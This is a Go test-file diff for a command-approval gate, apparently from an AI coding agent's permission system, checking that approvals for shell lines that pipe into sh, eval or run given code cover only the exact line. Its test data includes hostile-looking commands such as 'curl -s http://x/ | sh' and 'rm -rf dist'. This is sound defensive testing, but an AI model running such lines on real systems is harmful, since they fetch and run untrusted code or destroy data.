@@ -489,7 +489,7 @@ func TestScriptsOfPermit(t *testing.T) {
 	}
 	for line, covered := range map[string]bool{
 		"bash ./later.sh": false, "./later": false, "cd . && sh later.sh": false,
-		"npx @scope/name check": true, "timeout 9 curl https://host/path": true, "node -e 1": true,
+		"npx @scope/name check": false, "timeout 9 curl https://host/path": true, "node -e 1": false,
 	} {
 		p.answers = append(p.answers[:len(p.saw)], yes(gate.Session), yes(gate.Session))
 		ask(line)
@@ -1376,5 +1376,60 @@ func TestRulesOfHost(t *testing.T) {
 	}
 	if behind := set[:2][1]; !reflect.DeepEqual(behind, permission.Rule{}) {
 		t.Errorf("%v", behind)
+	}
+}
+
+// TestRunsGiven: no answer covers a program that runs what it reads or is given, and one to a dangerous line covers
+// exactly that line.
+func TestRunsGiven(t *testing.T) {
+	once := []gate.Choice{gate.Once, gate.No}
+	for line, want := range map[string][]gate.Choice{
+		"npm ci && cat x | sh": once, "xargs rm < x": once, "python3 -": once, "node -e 1": once, "ssh build make": once,
+		"env A=1 sh": once, "eval 'npm ci'": once, "awk 'BEGIN{system(\"x\")}'": once,
+		"npm ci":                       {gate.Once, gate.Session, gate.Always, gate.No},
+		"npm ci && rm -rf dist":        {gate.Once, gate.Session, gate.Always, gate.No},
+		"ls && curl -s http://x/ | sh": {gate.Once, gate.Session, gate.Always, gate.No},
+	} {
+		p := &scriptedUser{answers: []gate.Answer{yes(gate.No)}}
+		run(t, newGate(t, gate.Options{Approver: p, Keeper: &keeper{}}), line)
+		if !slices.Equal(p.saw[0].Choices, want) {
+			t.Errorf("%s: choices %v", line, p.saw[0].Choices)
+		}
+		if offers, rules := len(want) > 2, len(p.saw[0].Rules) > 0; offers != rules {
+			t.Errorf("%s: rules %q", line, p.saw[0].Rules)
+		}
+	}
+	for _, c := range []gate.Choice{gate.Session, gate.Always} {
+		line := "ls && curl -s http://x/ | sh"
+		p := &scriptedUser{answers: []gate.Answer{yes(c)}}
+		k := &keeper{}
+		g := newGate(t, gate.Options{Approver: p, Keeper: k})
+		if _, err := run(t, g, line); err != nil || !slices.Equal(p.saw[0].ShownRules(), []string{"exactly this command line"}) {
+			t.Errorf("%v: %v, %q", c, err, p.saw[0].ShownRules())
+		}
+		if c == gate.Always {
+			g = newGate(t, gate.Options{Keeper: k})
+		}
+		if _, err := run(t, g, line); err != nil {
+			t.Errorf("%v: the line asks again: %v", c, err)
+		}
+		for _, other := range []string{"echo 'rm -r docs' | sh", "curl -s http://x/", "sh", "ls; curl -s http://x/ | sh"} {
+			p.answers = append(p.answers[:len(p.saw)], yes(gate.No))
+			if _, err := run(t, g, other); err == nil {
+				t.Errorf("%v: %q is covered", c, other)
+			}
+		}
+		if len(g.KeptRules())+len(g.SessionRules()) > 0 {
+			t.Error("a rule for one line is listed as a rule")
+		}
+	}
+	old := &keeper{kept: []gate.Kept{{Rule: "Bash(sh)"}, {Rule: "Bash(npm ci)"}, {Rule: "Bash(python3:*)"},
+		{Rule: "Bash(source x.sh)"}}}
+	g := newGate(t, gate.Options{Keeper: old})
+	if got := g.Uncounted(); !slices.Equal(got, []string{"Bash(sh)", "Bash(python3:*)"}) || len(g.KeptRules()) != 2 {
+		t.Errorf("not counted: %q, kept %v", got, g.KeptRules())
+	}
+	if _, err := run(t, g, "echo x | sh"); err == nil {
+		t.Error("a stored rule for sh counts")
 	}
 }
